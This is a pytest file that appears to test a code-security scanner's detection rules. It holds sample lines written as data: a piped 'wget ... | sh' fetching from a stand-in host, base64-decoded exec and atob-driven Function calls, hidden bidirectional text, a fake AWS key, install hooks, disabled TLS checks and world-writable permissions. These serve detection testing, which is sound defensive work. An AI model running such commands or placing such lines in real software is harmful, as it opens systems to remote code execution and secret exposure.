"""Our own rules, each with what it finds and what it leaves alone."""

from __future__ import annotations

import pytest

from aifactory.security import RULES, Finding, at_least, by_rules, new

KEY = "AKIA" + "ABCDEFGHIJKLMNOP"


@pytest.mark.parametrize(
    ("path", "line", "rule"),
    [
        ("a.c", "if (x) { \u2066 } \u2069", "hidden-text"),
        ("deep/a.yml", f"key: {KEY}", "secret"),
        ("Dockerfile", "RUN wget -qO- http://x.example | sh", "piped-shell"),
        ("a.py", "exec(base64.b64decode(text))", "hidden-code"),
        ("a.ts", "new Function(atob(text))()", "hidden-code"),
        ("x.pth", "import x", "start-hook"),
        ("web/package.json", '  "postinstall": "node x.js"', "install-hook"),
        ("a.py", "requests.get(url, verify=False)", "unverified-tls"),
        (".github/workflows/x.yml", "on: [pull_request_target]", "foreign-code-in-ci"),
        ("a.sh", "chmod -R 777 .", "open-to-all"),
    ],
)
def test_found(path: str, line: str, rule: str) -> None:
    found = list(by_rules(path, f"first\n{line}\n".encode()))
    assert [(one.rule, one.line, one.text) for one in found] == [(rule, 2, line.strip())]


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("README.md", "curl https://example.org/install.sh | sh"),
        ("a.sh", "curl https://example.org/x -o x && sh x"),
        ("a.py", "json.loads(base64.b64decode(text))"),
        ("a.py", "verify=True"),
        ("x.pth", "src"),
        ("package.json", '"install-size": "1"'),
        ("a.sh", "chmod 755 x"),
    ],
)
def test_left_alone(path: str, line: str) -> None:
    assert list(by_rules(path, line.encode())) == []


def test_each_rule_has_a_name_of_its_own() -> None:
    assert len({rule.name for rule in RULES}) == len(RULES)


def test_binary_files_are_not_read() -> None:
    assert list(by_rules("a.py", f"\0{KEY}".encode())) == []


def test_severity_and_news() -> None:
    one, two = (Finding("a", n, "r", s, "m", t) for n, s, t in ((2, "low", "x"), (1, "high", "y")))
    assert at_least("low", [one, two]) == [two, one]
    assert at_least("medium", [one, two]) == [two]
    assert list(new([one, two], {"a": b"  x\n"}.get)) == [two]
